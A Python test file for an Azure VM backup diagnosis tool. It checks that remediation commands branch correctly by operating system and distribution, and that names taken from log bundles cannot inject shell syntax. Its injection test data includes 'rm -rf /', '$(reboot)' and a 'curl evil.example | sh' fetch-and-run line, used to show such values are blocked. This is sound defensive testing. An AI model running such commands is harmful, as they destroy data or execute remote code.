"""Steps for the VM's own system with the case's own names, and nothing of a bundle that a shell could run."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path
from types import MappingProxyType
from typing import Any

import jsonschema
import pytest

from analyzer import resources
from analyzer.diagnosis.distribution import System, system
from analyzer.diagnosis.incidents import Incident
from analyzer.diagnosis.machine import Machine
from analyzer.diagnosis.names import of_evidence, of_incident, of_resource, telling
from analyzer.diagnosis.remedy import command, prose, remedy, sources
from analyzer.model import Event, Value
from analyzer.parsers.pattern import Hit
from analyzer.pipeline import analyze
from analyzer.report import document, render_html, render_json, render_terminal
from analyzer.timeline.timeline import Window
from tests.support.cases import AGENT_LOG, JOB_ID, agent_log, failed_job, hypothesis, run, signature

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures"
SUBSCRIPTION = "/subscriptions/5b2c0a3e-0000-4000-8000-000000000001"
VM = f"{SUBSCRIPTION}/resourceGroups/prod/providers/Microsoft.Compute/virtualMachines/web01"
LOCKED = f"{SUBSCRIPTION}/resourceGroups/AzureBackupRG_westeurope_1"
START = datetime(2026, 3, 10, 2, tzinfo=UTC)
TEXT = {
    "steps": [
        {"id": "look", "text": "Look."},
        {"id": "restart", "distro": ["ubuntu", "debian"], "text": "Restart.", "command": "systemctl restart walinuxagent"},
        {"id": "restart", "distro": ["rhel"], "text": "Restart.", "command": "systemctl restart waagent"},
        {"id": "restart", "distro": ["other"], "text": "Restart.", "command": "service waagent restart"},
        {"id": "restart", "os": "windows", "text": "Restart.", "command": "Restart-Service RdAgent", "corrects": "Not {vm}.", "row": "C1"},
        {"id": "read", "os": "linux", "text": "Read."},
    ]
}


def event(kind: str, **fields: Value) -> Event:
    return Event(kind, "a.json", "text", fields=MappingProxyType(fields))


def shown(known: System, lang: str = "en", **names: str) -> list[tuple[str, str | None, list[str]]]:
    return [(row["id"], row["command"], [entry["title"] for entry in row["systems"]]) for row in remedy(TEXT, known, names, lang)]


def incident(**more: Any) -> Incident:
    return Incident("i", "job", Window(START, START), "job", **more)


# for which system


@pytest.mark.parametrize(
    ("names", "wanted"),
    [
        (("ubuntu",), "systemctl restart walinuxagent"),
        (("linuxmint", "ubuntu", "debian"), "systemctl restart walinuxagent"),
        (("centos", "rhel", "fedora"), "systemctl restart waagent"),
        (("alpine",), "service waagent restart"),
        (("never-heard-of",), "service waagent restart"),
    ],
)
def test_a_known_distribution_reads_its_own_branch_and_no_condition(names: tuple[str, ...], wanted: str) -> None:
    assert shown(System("linux", names)) == [("look", None, []), ("restart", wanted, []), ("read", None, [])]


def test_windows_reads_no_step_of_linux() -> None:
    assert shown(System("windows")) == [("look", None, []), ("restart", "Restart-Service RdAgent", [])]


def test_an_unknown_distribution_reads_all_branches_with_their_conditions() -> None:
    found = shown(System("linux"))
    assert [titles for _, _, titles in found] == [
        [],
        ["Ubuntu", "Debian"],
        ["Red Hat, CentOS, Alma, Rocky, Oracle Linux"],
        ["other distributions"],
        [],
    ]


def test_an_unknown_system_reads_everything_with_its_conditions_in_its_language() -> None:
    assert [titles for _, _, titles in shown(System())][1:] == [
        ["Ubuntu", "Debian"], ["Red Hat, CentOS, Alma, Rocky, Oracle Linux"], ["other distributions"], ["Windows"], ["Linux"],
    ]  # fmt: skip
    assert [titles for _, _, titles in shown(System(), "zh-CN")][3] == ["其他发行版"]


def test_what_a_step_corrects_and_which_row_it_covers_goes_along() -> None:
    row = remedy(TEXT, System("windows"), {"vm": "web01"}, "en")[-1]
    assert (row["corrects"], row["row"]) == ("Not web01.", "C1")


@pytest.mark.parametrize(
    ("events", "version", "wanted"),
    [
        ([event("os-release", id="ol", like="fedora")], None, "rhel"),
        ([event("os-release", id="opensuse-leap", like="suse opensuse")], None, "sles"),
        ([event("os-release", id="ubuntu", like="debian"), event("vm", os_name="rhel")], "CentOS 7", "ubuntu"),
        ([], "Red Hat Enterprise Linux Server 7.9", "rhel"),
        ([], "openSUSE Leap 15.5", "sles"),
        ([], "redhat 8.4", "rhel"),
        ([event("platform-vm", publisher="Canonical", offer="0001-com-ubuntu-server-jammy")], None, "ubuntu"),
        ([event("platform-vm", os_name="mariner")], None, "azurelinux"),
    ],
)
def test_the_distribution_is_known_from_the_best_source(events: list[Event], version: str | None, wanted: str) -> None:
    assert wanted in system(Machine(os="linux", os_version=version), events).names


def test_nothing_is_guessed() -> None:
    assert system(Machine(os="linux", os_version="5.15.0-azure"), [event("vm", offer="my-appliance")]).names == ()
    assert system(Machine(os="windows", os_version="Windows Server 2022"), [event("os-release", id="ubuntu")]) == System("windows")


# what fills a command


@pytest.mark.parametrize("value", ["web01", "my_vm-2.x", "/subscriptions/s/resourceGroups/g", "C:", "2026-03-10"])
def test_a_harmless_value_stands_in_a_command(value: str) -> None:
    assert command("az vm show --name {vm}", {"vm": value}, "en") == f"az vm show --name {value}"


@pytest.mark.parametrize(
    "value",
    [
        "web01; rm -rf /", "$(reboot)", "`reboot`", "a b", "a\nb", "a'b", 'a"b', "a|b", "a&b", "a>b", "<b", "--debug", "-x", "a\\b", "*", "~", "#x",
        "%PATH%", "$HOME", "虚拟机", "a\u200bb", "", "x" * 513, "a,b", "{vault}", "!x", "a=b", "@x", "[a]", "a?b",
    ],
)  # fmt: skip
def test_no_value_becomes_more_than_a_word_of_a_command(value: str) -> None:
    for template in ("az vm show --name {vm}", "az vm list --query \"[?name=='{vm}']\"", "sudo sh -c 'echo {vm}'"):
        assert command(template, {"vm": value, "vault": "v"}, "en") == template.replace("{vm}", "<VM>")


def test_brackets_are_quoted_but_not_twice() -> None:
    names = {"group": "prod(eu)"}
    assert command("az vm show -g {group}", names, "en") == "az vm show -g 'prod(eu)'"
    assert command("az x --query \"[?g=='{group}']\" -g {group}", names, "en") == "az x --query \"[?g=='prod(eu)']\" -g 'prod(eu)'"


def test_braces_of_other_languages_stay() -> None:
    for template in ("curl -w '%{http_code}'", "Get-WinEvent @{Id=1}", "awk '{print $1}'", "echo ${vm}", 'az x --query "[].{name:name}"'):
        assert command(template, {"vm": "web01"}, "en") == template


@pytest.mark.parametrize(("lang", "word"), [("en", "<VM>"), ("zh-CN", "<虚拟机>")])
def test_what_is_not_known_is_a_word_in_the_readers_language(lang: str, word: str) -> None:
    assert command("az vm show --name {vm}", {}, lang) == f"az vm show --name {word}"


def test_a_text_shows_names_of_any_script_on_one_line() -> None:
    assert prose("The group {group}.", {"group": "生产 (一)"}, "en") == "The group 生产 (一)."
    assert prose("The group {group}.", {"group": "a\nb"}, "en") == "The group <resource group of the VM>."


# where names come from


def test_a_resource_id_tells_names_by_its_type() -> None:
    assert of_resource(VM) == {"subscription": SUBSCRIPTION.split("/")[2], "vm": "web01", "group": "prod"}
    assert of_resource(f"{VM}/extensions/vmsnapshot")["extension"] == "vmsnapshot"
    assert of_resource(f"{LOCKED}/providers/Microsoft.Authorization/locks/keep") == {
        "subscription": SUBSCRIPTION.split("/")[2], "lock": "keep", "lock_scope": LOCKED,
    }  # fmt: skip
    assert of_resource(f"{VM}/providers/Microsoft.Authorization/locks/keep")["lock_scope"] == VM
    assert of_resource("") == of_resource("web01") == of_resource("/subscriptions//x") == {}


def test_the_vm_and_its_group_come_from_documents_of_this_vm_only() -> None:
    other = VM.replace("web01", "db01").replace("prod", "elsewhere")
    events = [event("platform-vm", resource=other, vm="db01"), event("platform-vm", resource=VM, vm="WEB01"), event("syslog", vm="x")]
    found = of_incident(incident(vm="web01", vault="vault1", job_id="j1", ended=START), Machine(), telling(events))
    assert found == {
        "vm": "web01", "vault": "vault1", "job": "j1", "date": "2026-03-10", "group": "prod",
        "subscription": SUBSCRIPTION.split("/")[2], "vm_id": VM,
    }  # fmt: skip


def test_a_document_of_the_vms_restore_points_does_not_tell_the_vms_group() -> None:
    points = event("platform-rpc", resource=f"{LOCKED}/providers/Microsoft.Compute/restorePointCollections/c", vm="web01", group="x")
    assert of_incident(incident(vm="web01"), Machine(), [points]) == {"vm": "web01"}


def test_two_vms_of_one_name_tell_no_group() -> None:
    about = [event("platform-vm", resource=VM.replace("prod", group), vm="web01") for group in ("prod", "test")]
    assert of_incident(incident(vm="web01"), Machine(), about) == {"vm": "web01"}
    assert of_incident(incident(vm="web01"), Machine(), [about[0], about[0]])["group"] == "prod"


def test_the_jobs_own_fields_tell_the_vaults_group() -> None:
    job = event("job", job="j1", vm="web01", vault="vault1", vault_group="backup", subscription="s", vm_group="prod")
    found = of_incident(incident(vm="web01", job=job), Machine(), [])
    assert (found["vault_group"], found["group"], found["subscription"]) == ("backup", "prod", "s")
    assert found["vm_id"] == "/subscriptions/s/resourceGroups/prod/providers/Microsoft.Compute/virtualMachines/web01"


def test_a_guest_that_is_not_the_jobs_vm_names_nothing() -> None:
    guest = event("vm-settings", vm="web01", group="prod", subscription="s")
    assert of_incident(incident(vm="web01", foreign=True), Machine(azure_name="web01"), [guest]) == {"vm": "web01"}
    assert of_incident(incident(vm="web01"), Machine(), [guest])["group"] == "prod"


def test_one_vm_in_all_documents_is_the_vm() -> None:
    about = [event("platform-vm", resource=VM, vm="web01")]
    assert of_incident(incident(), Machine(), about)["vm"] == "web01"
    assert "vm" not in of_incident(incident(), Machine(), [*about, event("platform-vm", resource=VM, vm="db01")])


def test_the_evidence_names_the_lock_and_the_running_job() -> None:
    hits = [
        Hit("p", event("platform-lock", name="keep", scope=LOCKED), None),
        Hit("p", event("job", job="j1", vault="mine"), None),
        Hit("p", event("job", job="j2", vault="old", vault_group="g"), None),
        Hit("p", event("vmsnapshot-log"), None, {"mount": "/data"}),
    ]
    assert of_evidence(hits, "J1") == {
        "lock": "keep", "lock_scope": LOCKED, "running_job": "j2", "running_vault": "old", "running_vault_group": "g", "mount": "/data",
    }  # fmt: skip


# pages


def test_a_page_has_its_title_and_date() -> None:
    page = "https://learn.microsoft.com/azure/backup/backup-azure-vms-troubleshoot"
    known, unknown = sources([f"{page}#x", "https://learn.microsoft.com/azure/nowhere"], "en")
    assert known == {"url": f"{page}#x", "title": "Troubleshoot backup errors with Azure VMs", "date": "2025-11-12"}
    assert unknown == {"url": "https://learn.microsoft.com/azure/nowhere", "title": None, "date": None}


# in the document


def test_the_steps_of_a_bundle_are_filled_and_branched() -> None:
    rows = analyze([FIXTURES / "linux-extensions-disabled/bundle"]).document["incidents"][0]["hypotheses"][0]["remedy"]
    assert [row["id"] for row in rows] == ["inspect", "enable", "provisioning", "restart", "verify"]
    assert rows[3]["command"] == "sudo systemctl restart walinuxagent" and rows[3]["systems"] == []
    assert rows[1]["row"] == "C3.a" and "Extensions.Enabled" in rows[1]["corrects"]


def test_a_vm_name_from_a_bundle_never_becomes_a_command(tmp_path: Path) -> None:
    evil = "web01; curl evil.example | sh"
    files = {"job.json": failed_job(vm=evil), AGENT_LOG: agent_log((10, "ALPHA-MARK one")).text()}
    result = run(tmp_path, files, signature(cause="extension-failed"))
    rows = hypothesis(result, "extension-failed")["remedy"]
    assert result.document["incidents"][0]["vm"] == evil
    assert any("--vm-name <VM>" in (row["command"] or "") for row in rows)
    assert not any("evil" in (row["command"] or "") for row in rows)


def test_conditions_corrections_and_editions_are_shown() -> None:
    found = document(analyze([FIXTURES / "linux-extensions-disabled/bundle"]).document)
    steps = found["incidents"][0]["hypotheses"][0]["remedy"]
    steps[0]["systems"] = [{"id": "ubuntu", "title": "Ubuntu"}, {"id": "debian", "title": "Debian"}]
    terminal, page = render_terminal(found), render_html(found)
    assert "1. On Ubuntu, Debian: Look at" in terminal and "Correction: The page writes" in terminal
    assert "edition of 2025-11-12" in terminal
    assert '<strong class="only">On Ubuntu, Debian:</strong>' in page and "Correction: The page writes" in page
    assert "edition of 2025-11-12" in page and "Troubleshoot Azure Backup failures caused by" in page
    schema = json.loads(resources.catalogue("diagnosis.schema.json").read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator(schema).validate(json.loads(render_json(found)))


def test_a_code_that_only_wraps_sends_to_the_jobs_details(tmp_path: Path) -> None:
    files = {"job.json": failed_job(code="UserErrorCrpReportedUserError"), AGENT_LOG: agent_log().text()}
    verdict = run(tmp_path, files, signature()).document["incidents"][0]["verdict"]
    assert verdict["cause"] is None
    details = next(row for row in verdict["decides"] if row["row"] == "P4")
    assert f"--name {JOB_ID}" in details["command"] and "Backup jobs" in details["portal_path"]
